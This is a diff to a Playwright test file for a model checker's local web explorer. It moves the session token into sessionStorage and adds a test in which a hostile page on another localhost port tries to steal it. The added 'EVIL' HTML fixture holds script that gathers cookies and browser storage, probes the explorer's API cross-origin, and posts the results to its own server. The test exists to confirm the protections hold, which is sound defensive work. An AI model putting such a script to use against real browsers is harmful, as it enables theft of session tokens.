@@ -6,11 +6,16 @@ notebook does. Screenshots go to build/ (explore-*.png)."""
 
 from __future__ import annotations
 
+import http.server
+import json
 import re
 import shutil
 import subprocess
 import sys
+import threading
+import urllib.request
 from collections.abc import Iterator
+from typing import ClassVar
 
 import pytest
 
@@ -79,7 +84,7 @@ class Explorer:
             self.close()
             raise AssertionError(f"mc explore did not start: {line}{self.proc.stderr.read()}")
         self.url = line.split(" at ")[1].strip()  # with this run's token
-        self.base = self.url.split("?")[0]
+        self.base = self.url.split("#")[0]
 
     def close(self) -> None:
         self.proc.terminate()  # SIGTERM: mc stops as on Ctrl-C
@@ -130,7 +135,7 @@ def test_clicking_through_kafka_14139_breaks_the_invariant_at_the_last_step(kip9
     explorer, result = kip903
     page.goto(explorer.url)
     wait_for_depth(page, 1)
-    assert page.url == explorer.base  # the token went to a cookie, not the address bar
+    assert page.url == explorer.base  # the token went to sessionStorage, not the address bar
     trace = result.trace
     for depth, step in enumerate(trace[1:], start=1):
         assert check_value(page, "invariant", result.invariant) == "true", depth
@@ -225,8 +230,11 @@ def test_kip966_last_replica_standing_data_loss_by_clicking_and_by_its_url(brows
         link = page.input_value("#link")
         assert link.startswith(f"{explorer.base}?path=0,") and link == page.url
         shoot(page, "kip966-data-loss")
-        again = page.context.new_page()  # the shared link, in a new tab
-        again.goto(link)
+        # The link in a new tab opened from the explorer's (which gets a copy of its
+        # sessionStorage, so the token); a tab of its own needs the printed URL.
+        with page.expect_popup() as popup:
+            page.evaluate("link => window.open(link)", link)
+        again = popup.value
         wait_for_depth(again, len(result.trace))
         assert again.get_attribute("body", "data-path") == page.get_attribute("body", "data-path")
         assert check_value(again, "invariant", result.invariant) == "false"
@@ -251,3 +259,80 @@ def test_a_result_and_its_trace_show_as_the_html_report_in_a_notebook(page):
         assert report.locator("ol#steps li").count() == n
         assert report.locator("svg.msc g.msc-row").count() == n
     shoot(page, "notebook")
+
+
+EVIL = """<!DOCTYPE html><html><body><script>
+const target = 'http://127.0.0.1:%(port)d';
+const said = {cookie: document.cookie,
+              stored: JSON.stringify(sessionStorage) + JSON.stringify(localStorage)};
+const body = JSON.stringify({expression: 'True'});
+Promise.allSettled([
+  fetch(target + '/api/find',
+        {method: 'POST', headers: {'Content-Type': 'application/json'}, body}),
+  fetch(target + '/api/find', {method: 'POST', mode: 'no-cors', body}),
+  fetch(target + '/api/spec', {credentials: 'include'}),
+  fetch(target + '/', {credentials: 'include'}).then(r => r.text()),
+]).then(results => {
+  said.results = results.map(r => r.status === 'fulfilled'
+    ? (typeof r.value === 'string' ? 'text:' + r.value : 'status:' + r.value.status)
+    : 'rejected');
+  return fetch('/report', {method: 'POST', body: JSON.stringify(said)});
+}).then(() => { document.body.setAttribute('data-done', 'true'); });
+</script></body></html>"""
+
+
+class _Evil(http.server.BaseHTTPRequestHandler):
+    """Another local web server the user visits: its page tries the explorer."""
+
+    seen: ClassVar[list[str]] = []  # every request's headers and body
+    page = b""
+
+    def log_message(self, *args):
+        pass
+
+    def do_GET(self):
+        self.seen.append(str(self.headers))
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.page)
+
+    def do_POST(self):
+        body = self.rfile.read(int(self.headers["Content-Length"]))
+        self.seen.append(str(self.headers) + body.decode())
+        self.send_response(204)
+        self.end_headers()
+
+
+def test_a_page_of_another_local_port_gets_neither_the_token_nor_a_find(browser, page):
+    """The user opens the explorer, then a page of another server on 127.0.0.1 in the same
+    browser: no request to that server carries the token (no cookie: cookies go to every
+    port), the page cannot read it (sessionStorage is the explorer's origin's), and its
+    requests to the explorer's API get no 2xx: no find is started."""
+    explorer = Explorer(str(SPECS / "examples" / "die_hard.py"))
+    port = int(explorer.base.split(":")[2].strip("/"))
+    token = explorer.url.split("#token=")[1]
+    _Evil.page = (EVIL % {"port": port}).encode()
+    _Evil.seen = []
+    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
+    threading.Thread(target=evil.serve_forever, daemon=True).start()
+    try:
+        page.goto(explorer.url)
+        wait_for_depth(page, 1)
+        other = page.context.new_page()
+        other.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
+        other.wait_for_selector('body[data-done="true"]', state="attached")
+        report = json.loads(_Evil.seen[-1].split("\n\n", 1)[1] or "{}")
+        assert token not in "".join(_Evil.seen)
+        assert report["cookie"] == "" and token not in report["stored"]
+        assert report["results"][0] == "rejected"  # its header needs a preflight we refuse
+        assert report["results"][1] == "status:0"  # opaque; the server answered 403
+        assert report["results"][2] == "rejected"
+        assert token not in report["results"][3]
+        spec = urllib.request.Request(f"{explorer.base}api/find", headers={"X-MC-Token": token})
+        with urllib.request.urlopen(spec, timeout=10) as reply:
+            assert json.loads(reply.read()) == {"state": "idle"}  # no find ever started
+    finally:
+        evil.shutdown()
+        evil.server_close()
+        explorer.close()
